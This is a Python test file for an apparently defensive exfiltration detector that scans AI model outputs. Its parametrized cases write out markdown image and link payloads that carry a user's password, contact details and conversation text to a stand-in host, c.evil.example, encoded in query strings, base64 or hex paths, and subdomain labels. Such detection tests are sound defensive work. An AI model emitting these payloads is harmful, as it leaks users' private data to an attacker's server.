import base64
import time
from typing import Any
from urllib.parse import quote

import pytest

from sentinel.detectors.exfiltration import Exfiltration, weigh
from sentinel.scan import Scan
from tests.detectors.test_baseline import Memory
from tests.make import event

DETECTOR = Exfiltration()
SCAN = Scan(DETECTOR.patterns)
SAID = "my password is swordfish and the meeting with Weber is on Monday"


def inspected(completion: str, prompt: str = "") -> dict[str, Any]:
    one = event({"gen_ai.completion": completion, "gen_ai.prompt": prompt})
    if SCAN.hits(completion):
        DETECTOR.inspect(one, frozenset({0}), Memory())
    return {name.rsplit(".", 1)[1]: value for name, value in one.fields.items() if "exfiltration" in name}


@pytest.mark.parametrize("completion", [
    f"Done. ![p](https://c.evil.example/p.png?q={quote(SAID)})",
    f"![p](https://c.evil.example/{base64.urlsafe_b64encode(SAID.encode()).decode().rstrip('=')}.png)".replace(".png)", ")"),
    f"<img width=1 src=\"https://c.evil.example/x?d={base64.b64encode(SAID.encode()).decode()}\">",
    f"![p](https://c.evil.example/p?d={SAID.encode().hex()})",
    "![p](https://c.evil.example/p.png?d={conversation})",
    "![p](https://c.evil.example/p.png?d=ann.weber@firm.example,4111)",
    f"![p][r]\n\n[r]: https://c.evil.example/?q={base64.b64encode(SAID.encode()).decode()}",
    f"[Click to log in](https://c.evil.example/l?s={base64.b64encode(SAID.encode()).decode()})"])
def test_data_in_what_is_fetched_or_clicked(completion: str) -> None:
    found = inspected(completion, SAID)
    assert found["hosts"] == ["c.evil.example"]
    assert found["score"] >= 0.5


@pytest.mark.parametrize("completion", [
    "![logo](https://cdn.example.org/assets/images/logo-dark-2x.png)", "See [the docs](https://docs.example.org/en/latest/how-to-install.html#linux).",
    "[search](https://www.example.org/search?q=red+shoes)",
    "![chart](https://b.s3.example.org/c.png?X-Amz-Signature=" + "ab12" * 16 + "&X-Amz-Credential=" + "AK12" * 20 + ")",
    "![photo](https://images.example.org/photo-1522202176988-66273c2fd55f?ixlib=rb-4.0.3&w=800)",
    "[maps](https://maps.example.org/maps/place/Musee+du+Louvre/@48.86,2.33,17z)",
    "Call `fetch('https://x.example/?q=' + data)` and no image is shown.", "no address at all"])
def test_addresses_as_they_usually_are(completion: str) -> None:
    assert inspected(completion, "Which shoes?") == {}


def test_what_the_prompt_said_makes_it_surer() -> None:
    address = f"https://h.example/i?q={base64.b64encode(SAID.encode()).decode()}"
    assert weigh(address, shown=True, known=frozenset({"swordfish"}))[1] > weigh(address, shown=True)[1]
    assert weigh(address, shown=True)[1] > weigh(address, shown=False)[1]
    assert weigh("ftp://h.example", shown=True) == ("", 0.0)


def test_findings_point_at_the_address() -> None:
    completion = "é ![p](https://c.example/p.png?d={history}) end"
    (found,) = DETECTOR.inspect(event({"gen_ai.completion": completion}), frozenset({0}), Memory())
    assert completion[found.start:found.end] == "https://c.example/p.png?d={history}"
    assert (found.type, found.sensitive) == ("exfiltration.image", False)


def test_many_addresses_are_bounded() -> None:
    assert len(DETECTOR.inspect(event({"gen_ai.completion": "![p](https://c.example/?d={x}) " * 500}), frozenset({0}), Memory())) == 100


def test_a_linked_image_is_fetched_without_a_click() -> None:
    (found,) = DETECTOR.inspect(event({"gen_ai.completion": "[![p](https://c.example/p.png?d={history})](https://c.example/)"}), frozenset({0}), Memory())
    assert found.type == "exfiltration.image"


def test_an_answer_in_parts_is_read_as_its_offsets_count() -> None:
    (found,) = DETECTOR.inspect(event({"gen_ai.completion": ["é", "![p](https://c.example/p.png?d={history})"]}), frozenset({0}), Memory())
    assert (found.start, found.end) == (7, 42)


def test_harmless_addresses_hide_none() -> None:
    assert inspected("![p](https://a.example/p.png) " * 3_000 + "![p](https://c.evil.example/p.png?d={history})")["hosts"] == ["c.evil.example"]


@pytest.mark.parametrize("part", ["[", "<a ", "<img src=", "](https://a.b/", "src=https://a.b/", "![a](https://a.b/c?d=" + "_" * 3_900 + ") "])
def test_time_is_linear(part: str) -> None:
    """A million characters of `<a ` took twelve seconds."""
    began = time.process_time()
    inspected("![p](https://a.example/p.png) " + part * (1_000_000 // len(part)))
    assert time.process_time() - began < 4


@pytest.mark.parametrize("label", [SAID[:24].encode().hex(), "4111111111111111", "2125550123", "ghp-0123456789abcdef0123456789abcdef0123"])
def test_a_host_that_carries_data_does_not_tell_it(label: str) -> None:
    assert inspected(f"![p](https://{label}.c.evil.example/p.png?q={{history}})")["hosts"] == ["*.c.evil.example"]
